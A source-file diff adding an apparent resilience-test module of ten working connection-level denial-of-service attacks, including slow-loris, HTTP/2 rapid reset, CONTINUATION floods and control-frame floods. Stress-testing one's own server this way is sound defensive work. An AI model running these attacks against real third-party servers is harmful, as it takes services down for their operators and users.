@@ -1,0 +1,291 @@
+"""Attacks on the level of the connection, none of which needs a token.
+
+Each takes a place to connect to and a number of seconds, and returns how many connections or
+streams it made. All of them end their connections before they return, so what the server still has
+a moment later is what it keeps. HTTP/2 is spoken without TLS; where the server refuses that, the
+attack ends with the connection.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import socket
+import time
+from collections.abc import AsyncIterator, Awaitable, Callable
+from contextlib import asynccontextmanager
+
+import h2.config
+import h2.connection
+import h2.exceptions
+import h2.settings
+
+Address = tuple[str, int]
+Attack = Callable[[Address, float], Awaitable[int]]
+CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(197)
+GET = b"GET /openapi.json HTTP/1.1\r\nHost: abuse\r\n\r\n"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS, PING, HEADERS, CONTINUATION = 4, 6, 1, 9
+
+
+def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
+    """One frame of HTTP/2 (RFC 9113, 4.1)."""
+    return (
+        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+    )
+
+
+class Peer:
+    """One socket, by the byte; what the server sends is read only when asked for."""
+
+    def __init__(self, taken: socket.socket) -> None:
+        self.socket = taken
+        self._loop = asyncio.get_running_loop()
+
+    async def send(self, data: bytes, within_s: float = 5.0) -> bool:
+        """Whether all of it was taken."""
+        try:
+            async with asyncio.timeout(within_s):
+                await self._loop.sock_sendall(self.socket, data)
+        except (TimeoutError, OSError):
+            return False
+        return True
+
+    async def read(self, within_s: float) -> bytes:
+        """What comes next; nothing where nothing came, or the connection has ended."""
+        try:
+            async with asyncio.timeout(within_s):
+                return await self._loop.sock_recv(self.socket, 1 << 18)
+        except (TimeoutError, OSError):
+            return b""
+
+    def reset(self) -> None:
+        with contextlib.suppress(OSError):
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
+        self.socket.close()
+
+
+@asynccontextmanager
+async def peers(address: Address, count: int, buffer_bytes: int = 0) -> AsyncIterator[list[Peer]]:
+    """So many connections, or as many as are taken; all closed at the end."""
+    loop, made = asyncio.get_running_loop(), list[Peer]()
+    try:
+        for _ in range(count):
+            one = socket.socket()
+            one.setblocking(False)
+            if buffer_bytes:
+                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer_bytes)
+            made.append(Peer(one))
+            try:
+                async with asyncio.timeout(5.0):
+                    await loop.sock_connect(one, address)
+            except (TimeoutError, OSError):
+                break
+        yield made
+    finally:
+        for peer in made:
+            peer.socket.close()
+
+
+async def slow_heads(address: Address, seconds: float) -> int:
+    """Slow-loris: heads that come a byte at a time and never end."""
+    end_s = time.monotonic() + seconds
+    async with peers(address, 300) as made:
+        for peer in made:
+            await peer.send(b"GET /healthz HTTP/1.1\r\nHost: abuse\r\nX: ")
+        while time.monotonic() < end_s:
+            for peer in made:
+                await peer.send(b"a")
+            await asyncio.sleep(0.2)
+        return len(made)
+
+
+async def slow_bodies(address: Address, seconds: float) -> int:
+    """Bodies that are announced and come a byte at a time."""
+    head = b"POST /oauth/token HTTP/1.1\r\nHost: abuse\r\nContent-Length: 30000\r\n\r\n"
+    end_s = time.monotonic() + seconds
+    async with peers(address, 300) as made:
+        for peer in made:
+            await peer.send(head)
+        while time.monotonic() < end_s:
+            for peer in made:
+                await peer.send(b"a")
+            await asyncio.sleep(0.2)
+        return len(made)
+
+
+async def never_read(address: Address, seconds: float) -> int:
+    """Large answers that nobody takes, pipelined over HTTP/1.1."""
+    async with peers(address, 100, buffer_bytes=4096) as made:
+        for peer in made:
+            await peer.send(GET * 20, 0.5)
+        await asyncio.sleep(seconds)
+        return len(made)
+
+
+async def churn(address: Address, seconds: float) -> int:
+    """Connections that end as soon as they have begun, in every way there is."""
+    firsts = (
+        b"",
+        b"\x01",
+        b"GET /healthz HTTP/1.1\r\nHost: abuse\r\n\r\n",
+        b"GET /healthz HTTP/1.1\r\nHost: ab",
+        b"POST /oauth/token HTTP/1.1\r\nHost: abuse\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        PREFACE,
+        CLIENT_HELLO,
+    )
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, 35) as made:
+            for number, peer in enumerate(made):
+                await peer.send(firsts[number % len(firsts)])
+            for number, peer in enumerate(made):
+                if number % 2:
+                    peer.reset()
+            count += len(made)
+    return count
+
+
+async def handshakes(address: Address, seconds: float) -> int:
+    """Beginnings of TLS handshakes, to a port that speaks none, and whose end never comes."""
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, 100) as made:
+            for peer in made:
+                await peer.send(CLIENT_HELLO)
+            count += len(made)
+            await asyncio.sleep(0.2)
+    return count
+
+
+async def window_0(address: Address, seconds: float) -> int:
+    """HTTP/2 streams whose answers the client has no window for."""
+    async with peers(address, 1) as (peer,):
+        client = _client()
+        client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+        await peer.send(client.data_to_send())
+        for number in range(400):
+            _ask(client, b"/docs" if number % 2 else b"/openapi.json")
+        await peer.send(client.data_to_send())
+        await _stay(peer, client, seconds)
+        return 400
+
+
+async def rapid_reset(address: Address, seconds: float) -> int:
+    """HTTP/2 streams that are reset as soon as they are opened."""
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, 1) as (peer,):
+            client = _client()
+            while time.monotonic() < end_s:
+                for _ in range(100):
+                    client.reset_stream(_ask(client, b"/healthz"), 8)
+                count += 100
+                if not await peer.send(client.data_to_send()):
+                    break
+                if data := await peer.read(0.001):
+                    with contextlib.suppress(h2.exceptions.ProtocolError):
+                        client.receive_data(data)
+    return count
+
+
+async def pseudo_headers(address: Address, seconds: float) -> int:
+    """HTTP/2 requests whose pseudo-header fields are malformed."""
+    ends = {b":scheme": b"http", b":authority": b"abuse"}
+    bad = (
+        {b":method": b"GET", b":path": b"/\xff", **ends},
+        {b":method": b"G\xff", b":path": b"/", **ends},
+        {b":method": b"GET", **ends},
+        {b":method": b"GET", b":path": b"", **ends},
+        {b":method": b"CONNECT", b":authority": b"abuse"},
+        {b":method": b"GET", b":path": b"/", **ends, b"transfer-encoding": b"chunked"},
+        {b":method": b"GET", b":path": b"/", **ends, b"content-length": b"5"},
+    )
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, len(bad)) as made:
+            for peer, fields in zip(made, bad, strict=False):
+                client = _client()
+                client.send_headers(1, list(fields.items()), end_stream=True)
+                await peer.send(client.data_to_send())
+                await peer.read(0.02)
+            count += len(made)
+    return count
+
+
+async def continuations(address: Address, seconds: float) -> int:
+    """A head of HTTP/2 that goes on and on in further frames."""
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, 1) as (peer,):
+            await peer.send(PREFACE + frame(SETTINGS, 0) + frame(HEADERS, 1, b"\x82"))
+            field = b"\x00" + b"\x01a" + b"\x7f\x81\x7e" + b"b" * 16_256
+            while time.monotonic() < end_s:
+                if not await peer.send(frame(CONTINUATION, 1, field)):
+                    break
+                count += 1
+    return count
+
+
+async def control_frames(address: Address, seconds: float) -> int:
+    """Pings and settings, whose acknowledgements nobody takes."""
+    flood = (frame(PING, 0, bytes(8)) + frame(SETTINGS, 0)) * 500
+    end_s, count = time.monotonic() + seconds, 0
+    async with peers(address, 4, buffer_bytes=4096) as made:
+        for peer in made:
+            await peer.send(PREFACE + frame(SETTINGS, 0))
+        while time.monotonic() < end_s:
+            for peer in made:
+                if await peer.send(flood, 0.1):
+                    count += 1000
+            await asyncio.sleep(0.01)
+    return count
+
+
+ATTACKS: dict[str, Attack] = {
+    "slow heads": slow_heads,
+    "slow bodies": slow_bodies,
+    "answers never read": never_read,
+    "connection churn": churn,
+    "TLS handshakes": handshakes,
+    "HTTP/2 window of 0": window_0,
+    "HTTP/2 rapid reset": rapid_reset,
+    "HTTP/2 pseudo-headers": pseudo_headers,
+    "HTTP/2 continuations": continuations,
+    "HTTP/2 control frames": control_frames,
+}
+
+
+def _client() -> h2.connection.H2Connection:
+    """Whose first bytes are to be sent; it sends what it is told, also what is malformed."""
+    client = h2.connection.H2Connection(
+        h2.config.H2Configuration(
+            client_side=True,
+            header_encoding=None,
+            validate_outbound_headers=False,
+            normalize_outbound_headers=False,
+        )
+    )
+    client.initiate_connection()
+    return client
+
+
+def _ask(client: h2.connection.H2Connection, path: bytes) -> int:
+    """The new stream."""
+    stream: int = client.get_next_available_stream_id()
+    fields = [(b":method", b"GET"), (b":path", path), (b":scheme", b"http"), (b":authority", b"a")]
+    client.send_headers(stream, fields, end_stream=True)
+    return stream
+
+
+async def _stay(peer: Peer, client: h2.connection.H2Connection, seconds: float) -> None:
+    """Answers what has to be answered, for so long."""
+    end_s = time.monotonic() + seconds
+    while time.monotonic() < end_s:
+        data = await peer.read(0.2)
+        if data:
+            with contextlib.suppress(h2.exceptions.ProtocolError):
+                client.receive_data(data)
+            await peer.send(client.data_to_send())
+        else:
+            await asyncio.sleep(0.05)
